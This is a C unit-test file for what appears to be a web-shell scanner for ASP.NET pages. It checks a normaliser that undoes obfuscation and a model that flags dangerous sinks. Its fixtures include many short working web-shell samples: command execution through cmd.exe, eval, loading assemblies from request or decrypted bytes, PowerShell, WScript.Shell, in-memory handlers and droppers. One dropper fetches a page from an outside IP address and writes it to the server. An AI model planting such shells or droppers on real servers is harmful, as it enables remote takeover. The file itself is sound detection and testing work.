/* src/detect: the normalised view and the capability model, on pages of
 * our own writing (one per sink class and language, one per rewrite the
 * normaliser undoes, and look-alikes that must stay quiet). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "exscan/detect.h"

static void view_of(struct exs_view *v, const char *page)
{
	assert_int_equal(exs_view_build(v, (const unsigned char *)page, strlen(page), 0), 0);
}

static void assert_view_has(const char *page, const char *want)
{
	struct exs_view v;

	view_of(&v, page);
	if (!strstr(v.text, want))
		fail_msg("view of %s\n---\n%s\n--- lacks: %s", page, v.text, want);
	exs_view_release(&v);
}

static void assert_view_lacks(const char *page, const char *what)
{
	struct exs_view v;

	view_of(&v, page);
	if (strstr(v.text, what))
		fail_msg("view of %s\n---\n%s\n--- has: %s", page, v.text, what);
	exs_view_release(&v);
}

/* ---- the normaliser ---- */

static void comments_removed(void **state)
{
	(void)state;
	assert_view_lacks("<% // Process.Start(x)\nint a = 1; %>", "process.start");
	assert_view_lacks("<% /* Process.Start(x) */ int a = 1; %>", "process.start");
	assert_view_lacks("<%@ Page Language=\"VB\" %><% ' Process.Start(x)\nDim a = 1 %>",
	                  "process.start");
	assert_view_lacks("<%@ Page Language=\"VB\" %><%\nREM Process.Start(x)\nDim a = 1 %>",
	                  "process.start");
	assert_view_lacks("<%-- Process.Start(x) --%><% int a = 1; %>", "process.start");
	/* a comment marker inside a string is text, not a comment */
	assert_view_has("<% string u = \"http://x/\"; Process.Start(u); %>", "process.start(u)");
}

static void concatenations_joined(void **state)
{
	(void)state;
	assert_view_has("<% var t = Type.GetType(\"System.Diagnostics.Pro\" + \"cess\"); %>",
	                "\"system.diagnostics.process\"");
	assert_view_has("<%@ Page Language=\"VB\" %><% Dim m = \"ev\" & \"a\" & _\n \"l\" %>",
	                "\"eval\"");
	assert_view_has(
	        "<script runat=\"server\" language=\"jscript\">var m = 'ev' + \"al\";</script>",
	        "\"eval\"");
}

static void vb_case_folded(void **state)
{
	(void)state;
	assert_view_has("<%@ Page Language=\"VB\" %><% SYSTEM.DIAGNOSTICS.PROCESS.START(X) %>",
	                "system.diagnostics.process.start(x)");
}

static void indexers_unified(void **state)
{
	(void)state;
	assert_view_has("<% a = Request(\"x\"); %>", "request[\"x\"]");
	assert_view_has("<% a = Request.Item[\"x\"]; %>", "request[\"x\"]");
	assert_view_has("<% a = Request.Form(\"x\"); %>", "request[\"x\"]");
	assert_view_has("<% a = Request . QueryString [ \"x\" ]; %>", "request[\"x\"]");
	assert_view_has("<% a = Request.Params.Get(\"x\"); %>", "request[\"x\"]");
	assert_view_has("<% a = HttpContext.Current.Request.Form[\"x\"]; %>",
	                "httpcontext.current.request[\"x\"]");
	/* other members stay what they are */
	assert_view_has("<% a = Request.Headers[\"x\"]; %>", "request.headers[\"x\"]");
}

static void encodings_decoded(void **state)
{
	(void)state;
	/* \uXXXX in identifiers and strings */
	assert_view_has("<%@ Page Language=\"Jscript\"%><% \\u0065val(Request.Item[\"z\"]); %>",
	                "eval(request[\"z\"])");
	assert_view_has("<% var s = \"\\u0063md.exe\"; %>", "\"cmd.exe\"");
	/* Chr() runs joined into one string */
	assert_view_has("<%@ Page Language=\"VB\" %><% x = Chr(101) & ChrW(118) & Chr(&H61) & "
	                "Chr(108) %>",
	                "\"eval\"");
	/* (char) casts */
	assert_view_has("<% string m = (char)101 + \"val\"; %>", "\"eval\"");
	/* String.fromCharCode in JScript */
	assert_view_has("<%@ Page Language=\"Jscript\"%><% var m = String.fromCharCode(101) + "
	                "'val'; %>",
	                "\"eval\"");
}

static void base64_code_decoded(void **state)
{
	/* Process.Start(Request["c"]); */
	const char *page = "<% string p = \"UHJvY2Vzcy5TdGFydChSZXF1ZXN0WyJjIl0pOw==\"; %>";
	struct exs_view v;
	const char *at;

	(void)state;
	view_of(&v, page);
	at = strstr(v.text, "process.start(request[\"c\"])");
	assert_non_null(at);
	assert_int_equal(v.n_base64, 1);
	/* the decoded code maps back to the literal */
	assert_int_equal(exs_view_orig(&v, (size_t)(at - v.text)),
	                 (uint64_t)(strchr(page, '"') - page));
	exs_view_release(&v);
	/* base64 that is not code (an image, random bytes) adds nothing */
	view_of(&v,
	        "<% string p = \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42\"; %>");
	assert_int_equal(v.n_base64, 0);
	exs_view_release(&v);
}

static void offsets_map_back(void **state)
{
	const char *page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
	                   "void Page_Load() {\n  System.Diagnostics.Process.Start(\"x\");\n}\n"
	                   "</script>\n";
	struct exs_view v;
	const char *at;
	uint64_t o;

	(void)state;
	view_of(&v, page);
	at = strstr(v.text, "process.start");
	assert_non_null(at);
	o = exs_view_orig(&v, (size_t)(at - v.text));
	assert_memory_equal(page + o, "Process.Start", 13);
	assert_int_equal(exs_line_of((const unsigned char *)page, strlen(page), o), 4);
	exs_view_release(&v);
}

static void utf16_pages(void **state)
{
	const char *ascii = "<% Process.Start(Request[\"c\"]); %>";
	size_t n = strlen(ascii);
	unsigned char *w = calloc(2 * n + 2, 1);
	struct exs_view v;
	const char *at;

	(void)state;
	assert_non_null(w);
	w[0] = 0xff;
	w[1] = 0xfe;
	for (size_t i = 0; i < n; i++)
		w[2 + 2 * i] = (unsigned char)ascii[i];
	assert_int_equal(exs_view_build(&v, w, 2 * n + 2, 0), 0);
	at = strstr(v.text, "process.start(request[\"c\"])");
	assert_non_null(at);
	/* offsets are byte offsets in the UTF-16 file */
	assert_int_equal(exs_view_orig(&v, (size_t)(at - v.text)), 2 + 2 * 3);
	exs_view_release(&v);
	free(w);
}

static void regions_of_a_page(void **state)
{
	struct exs_view v;

	(void)state;
	/* client-side script and markup are not server code */
	view_of(&v, "<html><script>eval(location.hash)</script><p>Process.Start</p></html>");
	assert_int_equal(v.n_blocks, 0);
	exs_view_release(&v);
	/* a configuration file without code has none */
	view_of(&v, "<?xml version=\"1.0\"?><configuration><system.codedom><compilers>"
	            "<compiler type=\"Microsoft.CSharp.CSharpCodeProvider\"/></compilers>"
	            "</system.codedom></configuration>");
	assert_int_equal(v.n_blocks, 0);
	exs_view_release(&v);
	/* handlers: everything after the directive is code */
	view_of(&v, "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic "
	            "class H : IHttpHandler { }");
	assert_true(v.handler);
	assert_non_null(strstr(v.text, "ihttphandler"));
	exs_view_release(&v);
	/* a code file that carries a page in a string (an in-memory shell
	 * registers one) is code, not markup with one "<%" block */
	view_of(&v,
	        "// provider\nusing System.Web.Hosting;\npublic class P : VirtualPathProvider {\n"
	        "  string page = \"<%@ Page Language=\\\"C#\\\" %><%= 1 %>\";\n"
	        "  public static void Init() { HostingEnvironment.RegisterVirtualPathProvider("
	        "new P()); }\n}\n");
	assert_int_equal(v.n_blocks, 1);
	assert_false(v.page);
	assert_non_null(strstr(v.text, "registervirtualpathprovider"));
	{
		struct exs_capability c;

		assert_int_equal(exs_capability_scan(&v, &c), 0);
		assert_true(c.score >= EXS_CAPABILITY_REPORT);
		assert_int_equal(c.top, EXS_SINK_MEMSHELL);
		exs_capability_release(&c);
	}
	exs_view_release(&v);
	/* a page that starts as markup stays a page */
	view_of(&v, "<%@ Page Language=\"C#\" %>\nusing System; <% Response.Write(1); %>");
	assert_true(v.page);
	exs_view_release(&v);
	/* XSLT scripts, inside CDATA */
	view_of(&v, "<xsl:stylesheet><msxsl:script language=\"C#\" implements-prefix=\"u\">"
	            "<![CDATA[ public string R(string c){ return c; } ]]></msxsl:script>"
	            "</xsl:stylesheet>");
	assert_non_null(strstr(v.text, "public string r(string c)"));
	exs_view_release(&v);
	/* server controls are noted */
	view_of(&v, "<asp:TextBox ID=\"CmdBox\" runat=\"server\" /><% int a; %>");
	assert_int_equal(v.n_controls, 1);
	assert_string_equal(v.controls[0], "cmdbox");
	assert_false(v.code_behind);
	exs_view_release(&v);
	view_of(&v, "<%@ Page Language=\"C#\" CodeBehind=\"Default.aspx.cs\" Inherits=\"A.B\" %>");
	assert_true(v.code_behind);
	exs_view_release(&v);
}

/* ---- the capability model ---- */

struct expect {
	const char *name;
	const char *page;
	enum exs_sink_class cls;
	bool flow;
};

static const struct expect shells[] = {
        {"process, C#",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, "
         "EventArgs e) {\n string c = Request.Form[\"c\"];\n var p = new "
         "System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + c);\n "
         "System.Diagnostics.Process.Start(p);\n}\n</script>",
         EXS_SINK_PROCESS, true},
        {"process, VB",
         "<%@ Page Language=\"VB\" %><script runat=\"server\">\nSub Page_Load()\n Dim cmd As "
         "String = Request(\"c\")\n Process.Start(\"cmd.exe\", \"/c \" & cmd)\nEnd "
         "Sub\n</script>",
         EXS_SINK_PROCESS, true},
        {"process, a control's value",
         "<%@ Page Language=\"C#\" %><asp:TextBox id=\"CmdBox\" runat=\"server\"/>\n"
         "<script runat=\"server\">void Go(object s, EventArgs e) { "
         "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + CmdBox.Text); }</script>",
         EXS_SINK_PROCESS, true},
        {"process, through a function's parameter",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Run(string arg) {\n"
         " var i = new System.Diagnostics.ProcessStartInfo();\n i.FileName = \"cmd.exe\";\n"
         " i.Arguments = arg;\n return i.ToString(); }\nvoid Page_Load() { "
         "Run(Request.Headers[\"X-C\"]); }\n</script>",
         EXS_SINK_PROCESS, true},
        {"eval, JScript",
         "<%@ Page Language=\"Jscript\"%><% var x = Request.Item[\"k\"]; eval(x, \"unsafe\"); %>",
         EXS_SINK_EVAL, true},
        {"eval, JScript with \\u escapes",
         "<%@ Page Language=\"Jscript\"%><% \\u0065\\u0076al(Request.Form(\"k\")); %>",
         EXS_SINK_EVAL, true},
        {"compilation, C#",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() { var p = new "
         "Microsoft.CSharp.CSharpCodeProvider(); var r = "
         "p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), "
         "Request[\"src\"]); }</script>",
         EXS_SINK_EVAL, true},
        {"assembly, C#",
         "<%@ Page Language=\"C#\" %><% byte[] b = "
         "Convert.FromBase64String(Request.Form[\"d\"]); "
         "System.Reflection.Assembly.Load(b).CreateInstance(\"X\"); %>",
         EXS_SINK_ASSEMBLY, true},
        {"assembly, decrypted payload",
         "<%@ Page Language=\"C#\" %><% byte[] k = Encoding.Default.GetBytes(\"0123456789abcdef\"); "
         "var a = new System.Security.Cryptography.RijndaelManaged(); byte[] d = "
         "a.CreateDecryptor(k, k).TransformFinalBlock(data, 0, data.Length); "
         "System.Reflection.Assembly.Load(d).CreateInstance(\"U\").Equals(this); %>",
         EXS_SINK_ASSEMBLY, false},
        {"file write, VB",
         "<%@ Page Language=\"VB\" %><% System.IO.File.WriteAllText(Request(\"p\"), "
         "Request(\"t\")) %>",
         EXS_SINK_FILE_WRITE, true},
        {"file write, through FileInfo",
         "<%@ Page Language=\"C#\" %><asp:TextBox id=\"T1\" runat=\"server\"/><script "
         "runat=\"server\">void B(object s, EventArgs e) { System.IO.FileInfo f = new "
         "System.IO.FileInfo(T1.Text); System.IO.StreamWriter w = f.CreateText(); "
         "w.Write(\"x\"); }</script>",
         EXS_SINK_FILE_WRITE, true},
        {"file write, a dropper",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO;\npublic class H { "
         "public void ProcessRequest(System.Web.HttpContext c) { "
         "File.WriteAllText(c.Server.MapPath(\"x.aspx\"), \"<%@ Page Language=\\\"Jscript\\\"%>"
         "<%eval(Request.Item[\\\"a\\\"]);%>\"); } }",
         EXS_SINK_FILE_WRITE, false},
        {"file write, a page fetched and dropped",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO; using System.Net;\n"
         "public class H { public void ProcessRequest(System.Web.HttpContext c) { string s = "
         "new WebClient().DownloadString(\"http://192.0.2.1/p.txt\"); StreamWriter w = "
         "File.CreateText(c.Server.MapPath(\"help.aspx\")); w.Write(s); w.Close(); } }",
         EXS_SINK_FILE_WRITE, false},
        {"file read, C#",
         "<%@ Page Language=\"C#\" %><% "
         "Response.Write(System.IO.File.ReadAllText(Request.QueryString[\"f\"])); %>",
         EXS_SINK_FILE_READ, true},
        {"directory listing, C#",
         "<%@ Page Language=\"C#\" %><% foreach (var f in "
         "System.IO.Directory.GetFiles(Request[\"d\"])) Response.Write(f); %>",
         EXS_SINK_DIR_LIST, true},
        {"socket, C#",
         "<%@ Page Language=\"C#\" %><% var tc = new "
         "System.Net.Sockets.TcpClient(Request.Headers[\"X-Host\"], 445); %>",
         EXS_SINK_SOCKET, true},
        {"SQL, VB",
         "<%@ Page Language=\"VB\" %><script runat=\"server\">\nSub Q()\n Dim cn As New "
         "SqlConnection(Request.Form(\"cs\"))\n cn.Open()\nEnd Sub\n</script>",
         EXS_SINK_SQL, true},
        {"SQL, a request-chosen connection as an adapter's second argument",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Tables(string cs) {\n var "
         "da = new System.Data.Odbc.OdbcDataAdapter(\"select name from sys.tables\", cs);\n "
         "return \"\"; }\nvoid Page_Load() { Response.Write(Tables(Request.Form[\"conn\"])); "
         "}\n</script>",
         EXS_SINK_SQL, true},
        {"assembly, Assembly.Load reached through a delegate",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">\ndelegate "
         "System.Reflection.Assembly L(byte[] b);\nvoid Page_Load() {\n var m = "
         "typeof(System.Reflection.Assembly).GetMethod(\"Lo\" + \"ad\", new[] { typeof(byte[]) "
         "});\n var l = (L)Delegate.CreateDelegate(typeof(L), m);\n byte[] d = "
         "Convert.FromBase64String(Context.Request[\"p\"]);\n "
         "l(d).CreateInstance(\"U\").Equals(Context);\n}\n</script>",
         EXS_SINK_ASSEMBLY, false},
        {"PowerShell, C#",
         "<%@ Page Language=\"C#\" %><% var ps = "
         "System.Management.Automation.PowerShell.Create(); ps.AddScript(Request.Form[\"s\"]); "
         "ps.Invoke(); %>",
         EXS_SINK_POWERSHELL, true},
        {"COM shell, JScript",
         "<%@ Page Language=\"Jscript\"%><% var sh = new ActiveXObject(\"WScript.Shell\"); "
         "sh.Exec(Request.Item[\"c\"]); %>",
         EXS_SINK_COM, false},
        {"COM shell, VB with Chr()",
         "<%@ Page Language=\"VB\" %><% Dim o = Server.CreateObject(Chr(87) & \"Script.\" & "
         "\"Shell\") %>",
         EXS_SINK_COM, false},
        {"registry, C#",
         "<%@ Page Language=\"C#\" %><% "
         "Response.Write(Microsoft.Win32.Registry.GetValue(Request[\"k\"], \"v\", null)); %>",
         EXS_SINK_REGISTRY, true},
        {"in-memory handler, C#",
         "<%@ Page Language=\"C#\" %><% "
         "System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P()); %>",
         EXS_SINK_MEMSHELL, false},
        {"shellcode, C#",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">[DllImport(\"kernel32\")] static "
         "extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p); [DllImport(\"kernel32\")] "
         "static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr "
         "i);</script>",
         EXS_SINK_NATIVE, false},
};

static void sink_classes(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
		struct exs_view v;
		struct exs_capability c;
		const struct exs_capability_hit *h;

		view_of(&v, shells[i].page);
		assert_int_equal(exs_capability_scan(&v, &c), 0);
		h = &c.hits[shells[i].cls];
		if (!h->score || c.score < EXS_CAPABILITY_REPORT || h->flow != shells[i].flow)
			fail_msg("%s: class %s score %d flow %d (page score %d: %s)\n%s",
			         shells[i].name, exs_sink_class_name(shells[i].cls), h->score,
			         h->flow, c.score, c.summary ? c.summary : "-", v.text);
		/* evidence points into the page */
		assert_true(h->sink_off < strlen(shells[i].page));
		exs_capability_release(&c);
		exs_view_release(&v);
	}
}

static void evidence_offsets(void **state)
{
	const char *page = "<%@ Page Language=\"C#\" %>\n<%\nstring c = Request[\"c\"];\n"
	                   "System.Diagnostics.Process.Start(\"cmd.exe\", c);\n%>\n";
	struct exs_view v;
	struct exs_capability c;
	const struct exs_capability_hit *h;

	(void)state;
	view_of(&v, page);
	assert_int_equal(exs_capability_scan(&v, &c), 0);
	h = &c.hits[EXS_SINK_PROCESS];
	assert_true(h->flow);
	assert_int_equal(c.top, EXS_SINK_PROCESS);
	assert_memory_equal(page + h->sink_off, "Process.Start", 13);
	assert_int_equal(exs_line_of((const unsigned char *)page, strlen(page), h->sink_off), 4);
	/* the source is where the request data came in, not the variable at the sink */
	assert_string_equal(h->source, "request[\"c\"]");
	assert_memory_equal(page + h->source_off, "Request[", 8);
	assert_int_equal(exs_line_of((const unsigned char *)page, strlen(page), h->source_off), 3);
	assert_string_equal(exs_sink_class_rule(c.top), "exs_cap_process");
	exs_capability_release(&c);
	exs_view_release(&v);
}

/* Legitimate pages: uploads with checks, fixed paths, configuration. */
static const char *const quiet[] = {
        /* an upload handler: fixed folder, extension list, generated name */
        "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nusing System.IO;\npublic class U { "
        "public void ProcessRequest(System.Web.HttpContext ctx) { var f = "
        "ctx.Request.Files[\"img\"]; string dir = ctx.Request.QueryString[\"dir\"]; if "
        "(Array.IndexOf(\"image,media\".Split(','), dir) == -1) return; string ext = "
        "Path.GetExtension(f.FileName).ToLower(); string path = ctx.Server.MapPath(\"~/up/\" + "
        "dir + \"/\") + System.Guid.NewGuid() + ext; f.SaveAs(path); } }",
        /* a page listing a fixed folder */
        "<%@ Page Language=\"C#\" %><% foreach (var f in "
        "System.IO.Directory.GetFiles(Server.MapPath(\"~/docs\"))) Response.Write(f); %>",
        /* a search page: request data into a SQL parameter of a fixed command */
        "<%@ Page Language=\"C#\" %><% var cmd = new SqlCommand(\"select * from t where "
        "n=@n\", conn); cmd.Parameters.AddWithValue(\"@n\", Request[\"q\"]); %>",
        /* request data only in configuration lookups */
        "<%@ Page Language=\"C#\" %><% string k = Request[\"k\"]; string v = "
        "ConfigurationManager.AppSettings[k]; %>",
        /* the compiler section of a web.config */
        "<?xml version=\"1.0\"?><configuration><system.codedom><compilers><compiler "
        "language=\"c#\" type=\"Microsoft.CSharp.CSharpCodeProvider\" /></compilers>"
        "</system.codedom></configuration>",
        /* client-side eval */
        "<html><script type=\"text/javascript\">eval(document.location.hash);</script></html>",
        /* a page that shows the request's path */
        "<%@ Page Language=\"C#\" %><% string p = Request.MapPath(Request.FilePath); "
        "Response.Write(System.IO.File.ReadAllText(p)); %>",
};

static void look_alikes_stay_quiet(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++) {
		struct exs_view v;
		struct exs_capability c;

		view_of(&v, quiet[i]);
		assert_int_equal(exs_capability_scan(&v, &c), 0);
		if (c.score >= EXS_CAPABILITY_REPORT)
			fail_msg("look-alike %zu scored %d (%s)\n%s", i, c.score,
			         c.summary ? c.summary : "-", v.text);
		exs_capability_release(&c);
		exs_view_release(&v);
	}
}

static void hostile_input(void **state)
{
	/* unterminated blocks, strings and comments; long concatenation chains */
	static const char *const bad[] = {"<%",
	                                  "<% \"",
	                                  "<% /*",
	                                  "<script runat=server>",
	                                  "<%@ Page Language=",
	                                  "\\u00",
	                                  "<% Request(",
	                                  "<% Chr(",
	                                  "<% (char)"};
	size_t n = 200000;
	char *big = malloc(n + 16);
	struct exs_view v;
	struct exs_capability c;

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		view_of(&v, bad[i]);
		/* every byte of the view maps inside the input */
		for (size_t k = 0; k < v.len; k++)
			assert_true(v.map[k] < strlen(bad[i]));
		assert_int_equal(exs_capability_scan(&v, &c), 0);
		exs_capability_release(&c);
		exs_view_release(&v);
	}
	assert_non_null(big);
	memcpy(big, "<% x = ", 7);
	for (size_t i = 7; i + 4 < n; i += 4)
		memcpy(big + i, "\"a\"+", 4);
	memcpy(big + n - 4 - (n - 7) % 4, "\"b\";", 4);
	big[n - (n - 7) % 4] = '\0';
	view_of(&v, big);
	assert_true(v.n_concat > 10000);
	assert_false(v.truncated);
	assert_int_equal(exs_capability_scan(&v, &c), 0);
	exs_capability_release(&c);
	exs_view_release(&v);
	/* a view budget smaller than the page: cut, not overrun */
	assert_int_equal(exs_view_build(&v, (const unsigned char *)big, strlen(big), 1024), 0);
	assert_true(v.len <= 1024);
	assert_true(v.truncated); /* and says so: the walker reports the page as judged in part */
	exs_view_release(&v);
	free(big);
}

/* A function that returns request data is a source where it is called (an
 * obfuscator wraps every read of the request in one), in C# and in VB. */
static void wrapped_request_reads(void **state)
{
	static const char *const pages[] = {
	        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
	        "string Arg(string k) { return Request.Form[k]; }\n"
	        "void Page_Load(object s, EventArgs e) {\n"
	        "  System.IO.File.WriteAllText(Arg(\"p\"), Arg(\"d\"));\n}\n</script>\n",
	        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\n"
	        "Function Arg(k As String) As String\n  Return Request.Form(k)\nEnd Function\n"
	        "Sub Page_Load(s As Object, e As EventArgs)\n"
	        "  System.IO.File.WriteAllText(Arg(\"p\"), Arg(\"d\"))\nEnd Sub\n</script>\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		struct exs_view v;
		struct exs_capability c;

		view_of(&v, pages[i]);
		assert_int_equal(exs_capability_scan(&v, &c), 0);
		assert_true(c.score >= EXS_CAPABILITY_REPORT);
		assert_int_equal(c.top, EXS_SINK_FILE_WRITE);
		assert_true(c.hits[c.top].flow);
		exs_capability_release(&c);
		exs_view_release(&v);
	}
	/* a function that returns something else is no source */
	{
		struct exs_view v;
		struct exs_capability c;

		view_of(&v,
		        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
		        "string Name(string k) { return \"log.txt\"; }\n"
		        "void Page_Load(object s, EventArgs e) { string q = Request[\"q\"];\n"
		        "  System.IO.File.WriteAllText(Server.MapPath(Name(\"a\")), \"x\");\n}\n"
		        "</script>\n");
		assert_int_equal(exs_capability_scan(&v, &c), 0);
		assert_true(c.score < EXS_CAPABILITY_REPORT);
		exs_capability_release(&c);
		exs_view_release(&v);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(comments_removed),  cmocka_unit_test(concatenations_joined),
	        cmocka_unit_test(vb_case_folded),    cmocka_unit_test(indexers_unified),
	        cmocka_unit_test(encodings_decoded), cmocka_unit_test(base64_code_decoded),
	        cmocka_unit_test(offsets_map_back),  cmocka_unit_test(utf16_pages),
	        cmocka_unit_test(regions_of_a_page), cmocka_unit_test(sink_classes),
	        cmocka_unit_test(evidence_offsets),  cmocka_unit_test(look_alikes_stay_quiet),
	        cmocka_unit_test(hostile_input),     cmocka_unit_test(wrapped_request_reads),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
